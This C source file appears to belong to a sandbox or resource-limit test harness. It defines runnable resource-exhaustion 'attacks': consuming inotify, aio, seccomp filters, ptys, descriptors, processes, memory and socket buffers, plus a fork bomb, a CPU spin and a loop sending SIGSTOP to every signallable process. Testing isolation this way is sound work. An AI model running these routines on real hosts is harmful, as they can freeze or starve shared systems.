/* SPDX-License-Identifier: Apache-2.0 */
/* Using things up: each prints how many it got, and holds them for the seconds it is told. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>

static int hold(const char *what, long n, int error, char **args)
{
    printf("%s %ld %s\n", what, n, error ? strerrorname_np(error) : "all");
    fflush(stdout);
    if (args[1])
        sleep((unsigned)atoi(args[1]));
    return error ? -error : 0;
}

static int attack_take_inotify(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++)
        if (inotify_init1(IN_CLOEXEC) < 0)
            return hold("instances", n, errno, args);
    return hold("instances", n, 0, args);
}

static int attack_take_watches(char **args)
{
    long n = 0;
    int fd = inotify_init1(IN_CLOEXEC);
    for (; n < atol(args[0]); n++) {
        char name[32];
        snprintf(name, sizeof(name), "watch-%ld", n);
        close(open(name, O_WRONLY | O_CREAT, 0600));
        int r = inotify_add_watch(fd, name, IN_MODIFY);
        if (r < 0)
            return hold("watches", n, errno, args);
    }
    return hold("watches", n, 0, args);
}

static int attack_take_aio(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++) {
        aio_context_t context = 0;
        if (syscall(SYS_io_setup, 1024, &context) < 0)
            return hold("contexts", n, errno, args);
    }
    return hold("contexts", n, 0, args);
}

/* Programs that let everything pass: what they are compiled to is memory of the whole host's. */
static struct sock_filter pass[] = {{BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
static struct sock_fprog pass_program = {1, pass};

static int attack_take_programs(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 ||
            setsockopt(pair[0], SOL_SOCKET, SO_ATTACH_FILTER, &pass_program, sizeof(pass_program)) <
                0)
            return hold("programs", n, errno, args);
    }
    return hold("programs", n, 0, args);
}

static int attack_take_filters(char **args)
{
    long n = 0;
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    for (; n < atol(args[0]); n++) {
        long r = n % 2 ? prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &pass_program)
                       : syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &pass_program);
        if (r < 0)
            return hold("filters", n, errno, args);
    }
    return hold("filters", n, 0, args);
}

static int attack_take_ptys(char **args)
{
    long n = 0;
    struct rlimit l;
    getrlimit(RLIMIT_NOFILE, &l);
    l.rlim_cur = l.rlim_max;
    setrlimit(RLIMIT_NOFILE, &l);
    for (; n < atol(args[0]); n++)
        if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0)
            return hold("terminals", n, errno, args);
    return hold("terminals", n, 0, args);
}

static int attack_take_fds(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++)
        if (open("/dev/null", O_RDONLY) < 0)
            return hold("descriptors", n, errno, args);
    return hold("descriptors", n, 0, args);
}

static int attack_take_files(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++) {
        char name[32];
        snprintf(name, sizeof(name), "file-%ld", n);
        int fd = open(name, O_WRONLY | O_CREAT, 0600);
        if (fd < 0)
            return hold("files", n, errno, args);
        close(fd);
    }
    return hold("files", n, 0, args);
}

static int attack_take_processes(char **args)
{
    long n = 0;
    for (; n < atol(args[0]); n++) {
        pid_t pid = fork();
        if (pid < 0)
            return hold("processes", n, errno, args);
        if (pid == 0)
            for (;;)
                pause();
    }
    return hold("processes", n, 0, args);
}

static int attack_fork_bomb(char **args)
{
    time_t end = time(NULL) + atol(args[0]);
    while (time(NULL) < end)
        if (fork() < 0)
            sched_yield();
    return 0;
}

static int attack_take_memory(char **args)
{
    for (long mib = 0; mib < atol(args[0]); mib++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            return hold("mebibytes", mib, errno, args);
        memset(p, 1, 1 << 20);
    }
    return hold("mebibytes", atol(args[0]), 0, args);
}

/* Memory that belongs to no process: files of memory, System V segments. */
static int attack_take_shared(char **args)
{
    for (long mib = 0; mib < atol(args[0]); mib += 16) {
        int id = shmget(IPC_PRIVATE, 16 << 20, IPC_CREAT | 0600);
        char *p = id < 0 ? (void *)-1 : shmat(id, NULL, 0);
        if (p == (void *)-1)
            return hold("mebibytes", mib, errno, args);
        memset(p, 1, 16 << 20);
        shmdt(p);
    }
    return hold("mebibytes", atol(args[0]), 0, args);
}

/* As much as a connection takes without being read; -1 when there are no more. */
static long fill_connection(int listener, const struct sockaddr_in *to)
{
    static const char block[65536];
    long sent = 0;
    int from = socket(AF_INET, SOCK_STREAM, 0);
    if (from < 0 || connect(from, (const struct sockaddr *)to, sizeof(*to)) < 0 ||
        accept(listener, NULL, NULL) < 0)
        return -1;
    for (ssize_t n; (n = send(from, block, sizeof(block), MSG_DONTWAIT)) > 0;)
        sent += n;
    return sent;
}

/* Memory of the kernel's: what is on its way in connections that nobody reads. */
static int attack_take_sockets(char **args)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof(a);
    long sent = 0, more = 0;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&a, len) < 0 || listen(listener, 5) < 0 ||
        getsockname(listener, (struct sockaddr *)&a, &len) < 0)
        return -errno;
    for (long i = 0; i < atol(args[0]) && (more = fill_connection(listener, &a)) >= 0; i++)
        sent += more;
    return hold("mebibytes", sent >> 20, more < 0 ? errno : 0, args);
}

static int attack_spin(char **args)
{
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do
        clock_gettime(CLOCK_MONOTONIC, &now);
    while (now.tv_sec - start.tv_sec < atol(args[0]));
    return 0;
}

/* Stops every process it may signal, again and again: the runner's next child among them. */
static int attack_stop_all(char **args)
{
    time_t end = time(NULL) + atol(args[0]);
    while (time(NULL) < end)
        kill(-1, SIGSTOP);
    return 0;
}

const struct attack attacks_by_taking[] = {
    {"take-inotify", "COUNT [SECONDS]", attack_take_inotify},
    {"take-watches", "COUNT [SECONDS]", attack_take_watches},
    {"take-aio", "COUNT [SECONDS]", attack_take_aio},
    {"take-programs", "COUNT [SECONDS]", attack_take_programs},
    {"take-filters", "COUNT [SECONDS]", attack_take_filters},
    {"take-ptys", "COUNT [SECONDS]", attack_take_ptys},
    {"take-fds", "COUNT [SECONDS]", attack_take_fds},
    {"take-files", "COUNT [SECONDS]", attack_take_files},
    {"take-processes", "COUNT [SECONDS]", attack_take_processes},
    {"take-memory", "MIB [SECONDS]", attack_take_memory},
    {"take-sockets", "CONNECTIONS [SECONDS]", attack_take_sockets},
    {"take-shared", "MIB [SECONDS]", attack_take_shared},
    {"fork-bomb", "SECONDS", attack_fork_bomb},
    {"spin", "SECONDS", attack_spin},
    {"stop-all", "SECONDS", attack_stop_all},
    {NULL, NULL, NULL},
};
